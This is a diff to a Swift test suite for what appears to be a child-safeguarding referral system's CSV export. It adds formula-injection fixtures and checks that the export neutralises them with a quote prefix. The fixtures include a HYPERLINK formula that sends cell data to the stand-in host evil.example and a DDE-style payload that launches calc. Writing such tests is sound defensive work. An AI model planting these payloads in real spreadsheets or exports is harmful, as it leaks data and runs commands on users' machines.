@@ -39,6 +39,9 @@ struct ExportTests {
             ("referrer.name", "Jane \"JJ\" Smith"), ("referrer.role", "Health visitor"), ("referrer.agency", "Worcester Health Visiting, North"),
             ("concern.summary", "Bruises on both arms,\nseen on Monday; Amy said \"it was an accident\""), ("urgency.immediate_risk", "yes"),
             ("urgency.call_made", "yes"), ("concern.allegations", "Zoë's mother's partner grabbed her"),
+            // Formula injection (issue 26, item 4): each would run in a spreadsheet unneutralised.
+            ("referrer.phone", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Call back\")"), ("referrer.email", "@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("concern.where", "-2+3"), ("concern.sources", "'quoted by the child'"),
         ] {
             try jane.store.set(path, of: full, to: value)
         }
@@ -128,6 +131,12 @@ struct ExportTests {
         // The operator's command gives the same, and every export is on the audit trail.
         let (status, csv) = try server.command(["export", "--format", "csv", "--limit", "10"])
         #expect(status == 0 && csv.hasPrefix("\"id\",\"receipt\",\"submitted_at\",\"referrer\",\"revision\""))
+        // No cell starts with a formula; each such value is there, prefixed with a quote (export_check.py reverses it).
+        for start in ["\"=", "\"+", "\"-", "\"@", "\"\t", "\"\r"] {
+            #expect(!csv.contains("," + start) && !csv.contains("\n" + start), "a CSV cell starts with \(start.dropFirst())")
+        }
+        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Call back\"\")\""))
+        #expect(csv.contains("\"'@SUM(1+1)") && csv.contains("\"'-2+3\"") && csv.contains("\"''quoted by the child'\""))
         let audit = try server.command(["audit", "show", "--action", "export", "--limit", "50"]).output
         #expect(audit.components(separatedBy: "\n").filter { $0.contains("export") }.count >= 8)
         #expect(!audit.contains("Bruises"))
